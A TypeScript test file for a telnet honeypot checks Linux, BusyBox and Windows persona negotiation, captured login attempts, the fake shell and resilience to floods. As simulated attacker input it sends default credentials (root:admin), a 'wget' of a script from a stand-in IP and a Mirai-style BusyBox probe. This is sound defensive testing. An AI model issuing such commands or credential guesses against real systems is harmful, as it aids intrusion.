// telnet decoy over raw sockets speaking IAC: the persona's option negotiation, the login prompt,
// recorded attempts and secrets, the shell behind it, and resilience to IAC floods and garbage.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { connect, type Socket } from 'node:net';
import { startTestDecky, type TestDecky } from '../harness.ts';

const IAC = 255, DONT = 254, DO = 253, WONT = 252, WILL = 251, SB = 250, SE = 240;
const TTYPE = 24, NAWS = 31, TSPEED = 32, XDISPLOC = 35, NEW_ENVIRON = 39, ECHO = 1, SGA = 3, LFLOW = 33;

class RawTelnet {
  readonly socket: Socket;
  buf = Buffer.alloc(0);
  closed = false;

  constructor(d: TestDecky) {
    this.socket = connect({ host: d.ip, port: d.port('telnet') });
    this.socket.on('data', (b) => { this.buf = Buffer.concat([this.buf, b]); });
    this.socket.on('close', () => { this.closed = true; });
    this.socket.on('error', () => undefined);
  }

  send(data: number[] | string | Buffer): void {
    this.socket.write(typeof data === 'string' ? Buffer.from(data, 'latin1') : Buffer.from(data));
  }

  text(): string {
    return this.buf.toString('latin1');
  }

  /** Polls until the received bytes satisfy `pred` (or the deadline passes). */
  async waitFor(pred: (text: string) => boolean, what: string, timeoutMs = 5000): Promise<void> {
    const deadline = Date.now() + timeoutMs;
    while (!pred(this.text())) {
      if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}; received ${JSON.stringify(this.text())}`);
      await new Promise((r) => setTimeout(r, 10));
    }
  }

  async waitClosed(timeoutMs = 5000): Promise<void> {
    const deadline = Date.now() + timeoutMs;
    while (!this.closed) {
      if (Date.now() > deadline) throw new Error('connection still open');
      await new Promise((r) => setTimeout(r, 10));
    }
  }
}

const bytes = (...b: number[]): string => Buffer.from(b).toString('latin1');

let d: TestDecky;
before(async () => {
  d = await startTestDecky({ services: [{ name: 'telnet', config: { fail_delay_ms: '0', extra_logins: 'support:support' } }] });
});
after(async () => {
  await d?.stop();
});

test('Linux telnetd negotiation, login prompt, recorded attempts, and the shell behind it', async () => {
  const t = new RawTelnet(d);
  // Linux telnetd opens with DO TTYPE, TSPEED, XDISPLOC, NEW-ENVIRON and waits for the answers.
  await t.waitFor((s) => s.length >= 12, 'the first options');
  assert.equal(t.text(), bytes(IAC, DO, TTYPE, IAC, DO, TSPEED, IAC, DO, XDISPLOC, IAC, DO, NEW_ENVIRON));
  t.send([IAC, WILL, TTYPE, IAC, WONT, TSPEED, IAC, WONT, XDISPLOC, IAC, WONT, NEW_ENVIRON, IAC, WILL, NAWS]);
  await t.waitFor((s) => s.includes(bytes(IAC, SB, TTYPE, 1, IAC, SE)), 'TTYPE SEND');
  t.send([IAC, SB, TTYPE, 0, ...Buffer.from('XTERM-256COLOR'), IAC, SE, IAC, SB, NAWS, 0, 132, 0, 50, IAC, SE]);
  await t.waitFor((s) => s.endsWith(`${d.name} login: `), 'login prompt');
  assert.ok(t.text().includes(bytes(IAC, WILL, SGA, IAC, WILL, ECHO, IAC, DO, NAWS)), 'server echo and SGA are offered');
  assert.match(t.text(), /\r\nDebian GNU\/Linux 12\r\n/);

  t.send('root\r\n');
  await t.waitFor((s) => s.endsWith('root\r\nPassword: '), 'password prompt (the user name is echoed)');
  t.send('hunter2\r\0');
  await t.waitFor((s) => /Login incorrect\r\n\S+ login: $/.test(s), 'Login incorrect');
  assert.ok(!t.text().includes('hunter2'), 'the password is never echoed');
  t.send('support\r\nsupport\r\n');
  await t.waitFor((s) => s.endsWith('support@' + d.name + ':~$ '), 'shell prompt');
  assert.match(t.text(), /Last login: /);
  const line = 'uname -m; wget http://198.51.100.7/x.sh; cat /etc/hostname';
  t.send(line + '\r\n');
  await t.waitFor((s) => s.includes(`${d.name}\r\nsupport@`), 'command output');
  assert.match(t.text(), /x86_64\r\n--\d{4}-\d\d-\d\d \d\d:\d\d:\d\d--  http:\/\/198\.51\.100\.7\/x\.sh\r\nConnecting to 198\.51\.100\.7:80\.\.\. failed: Connection refused\.\r\n/);
  t.send('exit\r\n');
  await t.waitClosed();

  const hello = await d.waitForEvent((e) => e.event === 'client_hello' && e.fields.ttype === 'XTERM-256COLOR');
  assert.equal(hello.fields.naws, '132x50');
  assert.equal(hello.fields.options, 'WILL 24,WONT 32,WONT 35,WONT 39,WILL 31');
  const session = (await d.events()).filter((e) => e.fields.session_id === hello.fields.session_id);
  assert.deepEqual(session.filter((e) => e.event === 'auth_attempt').map((e) => [e.fields.username, e.fields.auth_method, e.fields.success, e.secret?.toString()]),
    [['root', 'password', 'false', 'hunter2'], ['support', 'password', 'true', 'support']]);
  assert.deepEqual(session.filter((e) => e.event === 'command').map((e) => [e.fields.command, e.fields.user, e.fields.cwd]),
    [[line, 'support', '/home/support'], ['exit', 'support', '/home/support']]);
  assert.equal(session.find((e) => e.event === 'download')?.fields.url, 'http://198.51.100.7/x.sh');
});

test('a client that never negotiates (a bot) gets the prompt as soon as it types', async () => {
  const t = new RawTelnet(d);
  await t.waitFor((s) => s.length >= 12, 'the first options');
  t.send('root\r\n');
  await t.waitFor((s) => s.endsWith('Password: '), 'password prompt');
  t.send('admin\r\n');
  await t.waitFor((s) => s.endsWith(`root@${d.name}:~# `), 'root prompt');
  t.send('echo $((7*6))\r\n');
  await t.waitFor((s) => s.includes('42\r\n'), 'output');
  t.socket.end();
  await t.waitClosed();
});

test('three failed logins close the connection; IAC floods and garbage leave the service answering', async () => {
  const t = new RawTelnet(d);
  await t.waitFor((s) => s.length >= 12, 'the first options');
  t.send('a\r\nb\r\n');
  await t.waitFor((s) => s.includes('Login incorrect'), 'first failure');
  t.send('c\r\nd\r\ne\r\nf\r\n');
  await t.waitClosed();
  assert.equal((t.text().match(/Login incorrect/g) ?? []).length, 3);

  // An endless subnegotiation, a storm of repeated option requests, and random bytes.
  const flood = new RawTelnet(d);
  flood.send([IAC, SB, TTYPE, 0, ...new Array(100_000).fill(65)]);
  for (let i = 0; i < 200; i++) flood.send([IAC, DO, 99, IAC, WILL, 98]);
  await flood.waitFor((s) => s.includes(bytes(IAC, WONT, 99)) && s.includes(bytes(IAC, DONT, 98)), 'refusals');
  assert.equal(flood.text().split(bytes(IAC, WONT, 99)).length - 1, 1, 'each option is refused once, not in a loop');
  const junk = Buffer.alloc(20_000);
  for (let i = 0; i < junk.length; i++) junk[i] = (i * 131 + 7) & 0xff;
  flood.send(junk);
  flood.socket.destroy();

  const honest = new RawTelnet(d);
  await honest.waitFor((s) => s.length >= 12, 'the first options');
  honest.send('root\r\nadmin\r\nid -u\r\n');
  await honest.waitFor((s) => /\r\n0\r\nroot@/.test(s), 'a root shell');
  honest.socket.destroy();
});

test('embedded personas answer like BusyBox telnetd', async () => {
  const e = await startTestDecky({ services: [{ name: 'telnet', config: { fail_delay_ms: '0' } }], persona: { distro: 'alpine', osFamily: 'embedded', archetype: 'iot-device', hostname: 'cam-17' } });
  try {
    const t = new RawTelnet(e);
    await t.waitFor((s) => s.endsWith('cam-17 login: '), 'login prompt');
    assert.equal(t.text(), bytes(IAC, DO, ECHO, IAC, DO, NAWS, IAC, DO, LFLOW, IAC, WILL, ECHO, IAC, WILL, SGA) + 'cam-17 login: ');
    t.send('root\r\nadmin\r\n');
    await t.waitFor((s) => s.endsWith('cam-17:~# '), 'ash prompt');
    assert.match(t.text(), /BusyBox v1\.\d+\.\d+ .* built-in shell \(ash\)/);
    t.send('/bin/busybox MIRAI; cat /proc/cpuinfo | grep -c processor; uname -m\r\n');
    await t.waitFor((s) => /armv7l\r\n/.test(s), 'command output');
    assert.match(t.text(), /MIRAI: applet not found\r\n\d\r\narmv7l\r\n/);
    t.socket.destroy();
  } finally {
    await e.stop();
  }
});

test('Windows personas look like the Microsoft Telnet Service and capture credentials only', async () => {
  const w = await startTestDecky({ services: [{ name: 'telnet', config: { fail_delay_ms: '0' } }], persona: { distro: 'win2019', osFamily: 'windows', archetype: 'windows-server', hostname: 'FS01' } });
  try {
    const t = new RawTelnet(w);
    await t.waitFor((s) => s.endsWith('login: '), 'login prompt');
    assert.equal(t.text(), bytes(IAC, DO, 37, IAC, WILL, ECHO, IAC, WILL, SGA, IAC, DO, NEW_ENVIRON, IAC, DO, NAWS, IAC, DO, 0, IAC, WILL, 0) + 'Welcome to Microsoft Telnet Service \r\n\n\rlogin: ');
    t.send('Administrator\r\nadmin\r\n');
    await t.waitFor((s) => s.includes('Login Failed'), 'failure');
    const attempt = await w.waitForEvent((e) => e.event === 'auth_attempt');
    assert.deepEqual([attempt.fields.username, attempt.fields.success, attempt.secret?.toString()], ['Administrator', 'false', 'admin']);
    t.socket.destroy();
  } finally {
    await w.stop();
  }
});
